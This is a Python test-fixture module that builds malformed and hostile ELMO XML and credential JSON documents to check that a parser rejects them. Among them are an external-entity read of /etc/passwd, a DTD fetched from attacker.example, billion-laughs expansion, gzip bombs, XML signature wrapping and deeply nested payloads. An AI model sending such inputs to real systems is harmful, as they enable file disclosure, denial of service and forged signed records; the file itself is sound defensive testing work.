"""Bad documents about fictional people, each spoilt in one way: what a user may be sent, by mistake or in bad faith."""

from __future__ import annotations

import base64
import copy
import gzip
import json
import re
from collections.abc import Mapping
from functools import cache
from typing import Any

from cryptography.hazmat.primitives.serialization import Encoding

from tests.adapters.europass.documents import SMALL
from tests.elmo_documents import ELMO, elmo
from tests.toy_node import node_key, sealed

PERSONAL = ("Élodie", "Eleni", "Nemo", "2001-02-03", "Ingrid", "root:x:")
"""What no message may show: names and birth date of the learners of the documents here, and a file of this machine."""


@cache
def genuine() -> bytes:
    """A sealed ELMO that nothing is wrong with."""
    return sealed(elmo())


def _with(old: str, new: str, *, seal: bool = True) -> bytes:
    body = elmo()
    assert old.encode() in body, old
    spoilt = body.replace(old.encode(), new.encode(), 1)
    return sealed(spoilt) if seal else spoilt


def _altered(pattern: bytes, new: bytes) -> bytes:
    altered, count = re.subn(pattern, new, genuine(), count=1, flags=re.DOTALL)
    assert count == 1
    return altered


def _der(key: Any) -> bytes:
    return base64.b64encode(key.certificates[0].public_bytes(Encoding.DER))


def _laughs() -> str:
    steps = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return f'<!DOCTYPE elmo [<!ENTITY l0 "ha">{steps}]>'


def _after_declaration(text: str) -> bytes:
    head, end, rest = elmo().partition(b"?>")
    return head + end + text.encode() + rest


def _wrapped() -> bytes:
    """The signed root moved into an extension of a root that says something else; the signature moved out to it."""
    signature = re.search(rb"<(?:\w+:)?Signature .*</(?:\w+:)?Signature>", genuine(), re.DOTALL)
    assert signature is not None
    body = elmo(grade="10").decode()
    inside = re.sub(r"^<\?.*?\?>", "", elmo().decode())
    return body.replace("</elmo>", f"<extension>{inside}</extension>{signature[0].decode()}</elmo>").encode()


def _over_a_part() -> bytes:
    """A signature, in its place, whose reference names one report alone."""
    return _altered(rb'Reference URI=""', b'Reference URI="#results"').replace(b"<report>", b'<report ID="results">')


def _nested_courses() -> bytes:
    course = (
        '<hasPart><learningOpportunitySpecification><title xml:lang="en">Course</title><specifies>'
        "<learningOpportunityInstance/></specifies>"
    )
    end = "</learningOpportunitySpecification></hasPart>"
    return elmo().replace(
        b"</learningOpportunitySpecification>\n    <issueDate>",
        (course * 10_000 + end * 10_000).encode() + b"</learningOpportunitySpecification>\n    <issueDate>",
    )


def _credential(**changes: Any) -> bytes:
    credential = copy.deepcopy(SMALL)
    claims = credential["credentialSubject"]["hasClaim"]
    claim = claims[0] if isinstance(claims, list) else claims
    claim.update(changes)
    return json.dumps(credential, ensure_ascii=False).encode()


def _loop() -> bytes:
    """A claim that is part of itself, by its id."""
    claims = SMALL["credentialSubject"]["hasClaim"]
    claim = claims[0] if isinstance(claims, list) else claims
    part = {"id": claim["id"], "type": claim["type"]}
    return _credential(isPartOf=part, hasPart=[{**part, "isPartOf": {**part, "hasPart": part}}])


def _nested_claims() -> bytes:
    inside = b'{"id": "urn:epass:learningAchievement:9", "type": "LearningAchievement", "hasPart": '
    return _credential(hasPart="HERE").replace(b'"HERE"', inside * 10_000 + b"[]" + b"}" * 10_000)


_CREDIT = {"id": "urn:epass:creditPoint:9", "type": "CreditPoint", "point": "-5"}


@cache
def documents() -> Mapping[str, bytes]:
    """Every bad document by its name."""
    return {
        "truncated": genuine()[: len(genuine()) // 2],
        "empty": b"",
        "wrong_namespace": elmo().replace(ELMO.encode(), b"urn:example:somebody-elses"),
        "doctype": _after_declaration('<!DOCTYPE elmo SYSTEM "http://attacker.example/a.dtd">'),
        "entities": _after_declaration(_laughs()).replace(b">Nemo<", b">&l9;<"),
        "external_entity": _after_declaration('<!DOCTYPE elmo [<!ENTITY x SYSTEM "file:///etc/passwd">]>').replace(
            b">Nemo<", b">&x;<"
        ),
        "utf_7": elmo().replace(b"UTF-8", b"UTF-7").replace(b"<learner>", b"+ADw-learner+AD4-"),
        "utf_16": elmo().decode().replace("UTF-8", "UTF-16").encode("utf-16"),
        "gzip_bomb": gzip.compress(b"<elmo>" + b" " * 100_000_000, mtime=0),
        "gzip_bomb_in_base64": base64.b64encode(gzip.compress(b"<elmo>" + b" " * 100_000_000, mtime=0)),
        "two_roots": elmo() + re.sub(rb"^<\?.*?\?>", b"", elmo()),
        "duplicate_keys": _credential().replace(b'"issuer"', b'"issuer": {"id": "urn:epass:org:9"}, "issuer"', 1),
        "duplicate_ids": _with("EX-002", "EX-001"),
        "unknown_algorithm": _altered(rb'(SignatureMethod Algorithm=")[^"]*', rb"\g<1>urn:example:rot13"),
        "swapped_certificate": genuine().replace(*_certificates()),
        "altered_byte": genuine().replace(b">8<", b">9<"),
        "wrapped_signature": _wrapped(),
        "signature_over_a_part": _over_a_part(),
        "no_signature": elmo(),
        "negative_credits": _with("<value>5</value>", "<value>-5</value>"),
        "negative_credits_in_a_credential": _credential(creditReceived=_CREDIT),
        "impossible_date": _with("<date>2025-06-15</date>", "<date>2025-02-30</date>"),
        "impossible_date_in_a_credential": _credential().replace(b"2025-06-20T00:00:00Z", b"2025-06-31T00:00:00Z"),
        "nested_courses": _nested_courses(),
        "nested_claims": _nested_claims(),
        "reference_loop": _loop(),
    }


def _certificates() -> tuple[bytes, bytes]:
    """The certificate of the seal as it stands in the document, and another's."""
    found = re.search(rb"X509Certificate>([^<]*)<", genuine())
    assert found is not None
    return found[1], _der(node_key())
